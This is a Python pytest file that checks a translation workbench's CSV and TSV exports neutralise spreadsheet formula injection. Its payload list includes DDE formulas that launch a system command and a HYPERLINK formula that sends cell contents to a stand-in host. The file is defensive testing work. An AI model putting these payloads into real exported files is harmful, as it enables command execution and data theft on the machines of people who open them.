"""CSV and TSV files the workbench writes start no spreadsheet formula (issue 12.7, OWASP)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbench.cli import main
from workbench.core.cells import FORMULA_STARTS, neutralise, restore
from workbench.formats.glossary_csv import format_glossary_csv, parse_glossary_csv
from workbench.terms.glossary import Concept, Glossary, Term

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "'=already quoted",
]


def _starts_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@given(st.text())
def test_neutralise_then_restore_is_exact(value: str) -> None:
    safe = neutralise(value)
    assert not _starts_formula(safe)
    assert restore(safe) == value


def test_glossary_csv_cells_cannot_start_a_formula_and_read_back() -> None:
    concepts = [
        Concept(f"c{n}", payload, terms=(Term(payload, "en"), Term("normal", "es")))
        for n, payload in enumerate(PAYLOADS)
    ]
    glossary = Glossary(concepts)
    text = format_glossary_csv(glossary)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(_starts_formula(cell) for cell in cells)
    assert parse_glossary_csv(text).concepts == glossary.concepts


def test_glossary_export_csv_from_the_cli_is_neutralised(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    rows = ["concept_id,subject_field,lang,term,status,note"]
    rows += [
        f'c{n},,en,"{p.replace(chr(34), chr(34) * 2)}",preferred,' for n, p in enumerate(PAYLOADS)
    ]
    source.write_text("\n".join(rows) + "\n", "utf-8")
    out = tmp_path / "out.csv"
    assert main(["glossary", "export", str(source), "-o", str(out), "--format", "csv"]) == 0
    cells = [cell for row in csv.reader(io.StringIO(out.read_text("utf-8"))) for cell in row]
    assert not any(_starts_formula(cell) for cell in cells)


@pytest.mark.parametrize("payload", PAYLOADS[:5])
def test_align_tsv_cells_cannot_start_a_formula(
    tmp_path: Path, payload: str, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "en.txt"
    tgt = tmp_path / "es.txt"
    src.write_text(f"{payload}\n\nSecond line here.\n", "utf-8")
    tgt.write_text(f"{payload}\n\nSegunda línea aquí.\n", "utf-8")
    args = ["align", str(src), str(tgt), "--src-lang", "en", "--tgt-lang", "es", "--format", "tsv"]
    assert main(args) == 0
    out = capsys.readouterr().out
    cells = [cell for line in out.splitlines() for cell in line.split("\t")]
    assert cells and not any(_starts_formula(cell) for cell in cells)
    assert "'" + payload.split()[0] in out
